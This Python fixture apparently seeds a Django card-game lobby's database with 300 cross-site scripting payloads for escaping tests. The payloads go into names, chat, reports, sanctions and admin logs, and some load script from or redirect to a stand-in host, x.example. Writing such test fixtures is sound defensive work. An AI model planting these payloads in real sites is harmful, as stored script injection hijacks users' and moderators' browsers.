"""Three hundred script payloads. Called in a server's database, they are put into every free text, past all checks of
length and letters."""

import itertools
from typing import Any

from allauth.usersessions.models import UserSession
from django.contrib.admin.models import LogEntry
from django.contrib.contenttypes.models import ContentType
from django.contrib.sessions.models import Session
from django.utils import timezone

from accounts.models import Block, Friendship, ModerationAction, PersonNote, Sanction, User
from lobby.history.models import Judgement, Rating
from lobby.models import ChatMessage, House, Invitation, Match, MatchPlayer, Room, Seat
from lobby.moderation.models import Report, ReportNote
from lobby.tables.services import rooms
from lobby.tables.services.hosting import rename_by_moderator
from tests.support.scenes.staff import moderator, with_factor

CODE = ["alert(1)", "top.ran()", "import('//x.example')", "fetch('//x.example')", "top.location='//x.example'"]
SHAPES = [
    "<script>{}</script>",
    "<ScRiPt src=//x.example>{}</ScRiPt>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<math><mtext></table><mglyph><style><img src onerror={}>",
    "<form action=javascript:{}><button>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<link rel=import href={}>",
    "<style>@import '{}'</style>",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<p hx-on:click={}>",
    "<p style=animation-name:x onanimationstart={}>",
]
ESCAPES = ["{}", "\"'>{}", "</textarea></title></script>{}"]
PAYLOADS = [e.format(s.format(c)) for e, s, c in itertools.product(ESCAPES, SHAPES, CODE)]
ALL = " ".join(PAYLOADS)
CATEGORIES = ("abuse", "name", "collusion", "stalling", "spam", "other")  # fifty reports each: what a page shows


def main() -> dict[str, Any]:
    """Vera looks, Hugo hosts, Dora moderates, Boss administrates. What a test needs to find them: slug and keys."""
    dora = moderator("dora")
    vera, hugo = (User.objects.create_user(name) for name in ("vera", "hugo"))
    boss = with_factor(User.objects.create_superuser("boss"))
    crowd = _crowd()
    _people(crowd, vera, dora, boss)
    room = _rooms(crowd, vera, hugo, dora)
    report = _reports(crowd, room, dora)
    return {"slug": room.slug, "room": room.pk, "report": report, "person": crowd[0].pk, "match": _match(crowd, room)}


def _crowd() -> list[User]:
    """Everybody is called a payload; "p3-" finds fifty of them."""
    names = {"first_name", "last_name", "display_name"}
    User.objects.bulk_create(
        User(username=f"p{n // 50}-{n}", **dict.fromkeys(names, text)) for n, text in enumerate(PAYLOADS)
    )
    return list(User.objects.filter(username__startswith="p", name_key=None).order_by("pk"))


def _people(crowd: list[User], vera: User, dora: User, boss: User) -> None:
    now = timezone.now()
    friends = [(vera, other, now) for other in crowd[:100]] + [(other, vera, None) for other in crowd[100:200]]
    Friendship.objects.bulk_create(Friendship(asker=a, other=b, accepted_at=at) for a, b, at in friends)
    Block.objects.bulk_create(Block(by=vera, person=other, only_chat=True) for other in crowd[200:])
    Sanction.objects.bulk_create(
        Sanction(person=crowd[0], kind="warn", reason=text, by=dora, seen_at=now) for text in PAYLOADS
    )
    Sanction.objects.create(person=vera, kind="warn", reason=ALL, by=dora)
    PersonNote.objects.bulk_create(PersonNote(person=crowd[0], by=dora, text=text) for text in PAYLOADS)
    later = now + timezone.timedelta(days=1)
    Session.objects.bulk_create(Session(session_key=f"s{n}", session_data="", expire_date=later) for n in range(100))
    UserSession.objects.bulk_create(
        UserSession(user=vera, session_key=f"s{n}", ip="::1", user_agent=" ".join(PAYLOADS[n::100]), data={})
        for n in range(100)
    )
    kind = ContentType.objects.get_for_model(crowd[0])
    LogEntry.objects.bulk_create(
        LogEntry(user=boss, content_type=kind, object_id=str(crowd[0].pk), object_repr=text, action_flag=2,
                 change_message=text) for text in PAYLOADS
    )  # fmt: skip


def _rooms(crowd: list[User], vera: User, hugo: User, dora: User) -> Room:
    House.objects.create(pk=1, banner=ALL)
    Room.objects.bulk_create(
        Room(name=f"{text} #{n // 50}", ruleset="pife", options={"seats": 4}, host=crowd[n])
        for n, text in enumerate(PAYLOADS)
    )
    others = list(Room.objects.order_by("pk"))
    Seat.objects.bulk_create(Seat(room=each, index=0, user=crowd[n], name=PAYLOADS[n]) for n, each in enumerate(others))
    Invitation.objects.bulk_create(Invitation(room=others[n], by=crowd[n], person=vera) for n in range(10))
    room = rooms.create_room(actor=hugo, ruleset="pife", options={}, name="x", public=True, spectators=True, bots=1)
    rename_by_moderator(room_id=room.pk, actor=dora, name=ALL)
    ChatMessage.objects.bulk_create(
        ChatMessage(table_id=room.pk, user=crowd[n], kind="text", text=text, action_id=str(n))
        for n, text in enumerate(PAYLOADS)
    )
    details = [{"from": text, "to": text, "reason": text} for text in PAYLOADS]
    ModerationAction.objects.bulk_create(
        ModerationAction(by=dora, kind="renamed_room", room=others[n // 50].pk, details=each)
        for n, each in enumerate(details)
    )
    return room


def _reports(crowd: list[User], room: Room, dora: User) -> int:
    others = list(Room.objects.order_by("pk"))
    now = "2026-01-01T00:00:00+00:00"
    lines = [
        {"n": n, "user": crowd[n].pk, "at": now, "kind": "text", "text": text, "spectators": False}
        for n, text in enumerate(PAYLOADS)
    ]
    Report.objects.bulk_create(
        Report(reporter=crowd[n - 1], person=crowd[n], category=CATEGORIES[n // 50], room=others[n], text=text)
        for n, text in enumerate(PAYLOADS)
    )
    report = Report.objects.create(
        reporter=crowd[1], person=crowd[0], category="abuse", room=room, text=ALL, evidence={"chat": lines}
    )
    ReportNote.objects.bulk_create(ReportNote(report=report, by=dora, text=text) for text in PAYLOADS)
    return report.pk


def _match(crowd: list[User], room: Room) -> int:
    match = Match.objects.create(room=room, number=1, ruleset="pife", reason="target", ended_at=room.created_at)
    MatchPlayer.objects.bulk_create(
        MatchPlayer(match=match, seat=n % 8, user=crowd[n], name=text) for n, text in enumerate(PAYLOADS)
    )
    Judgement.objects.create(match=match, verdict="void", reason=ALL)
    Rating.objects.bulk_create(
        Rating(user=person, ruleset="pife", size="2", mu=25 + n, sigma=1) for n, person in enumerate(crowd)
    )
    return match.pk
